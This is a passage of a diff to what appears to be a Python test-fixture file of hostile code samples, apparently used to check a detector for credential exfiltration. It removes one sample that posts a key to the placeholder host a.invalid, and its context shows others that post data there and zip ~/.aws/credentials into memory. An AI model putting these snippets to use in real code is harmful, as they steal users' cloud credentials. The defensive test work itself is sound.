@@ -41,12 +41,6 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "    def send(self): requests.post('https://a.invalid', json=self.data)\n",
             line=4,
         ),
-        "a plain object": py(
-            "import os, requests\nfrom dataclasses import asdict, dataclass\n@dataclass\nclass Report:\n    key: str\n"
-            + _KEY
-            + "requests.post('https://a.invalid', json=asdict(Report(key)))\n",
-            line=6,
-        ),
         "an archive in memory": py(
             "import io, os, zipfile, requests\nbuffer = io.BytesIO()\nwith zipfile.ZipFile(buffer, 'w') as z:\n"
             "    z.write(os.path.expanduser('~/.aws/credentials'))\n"
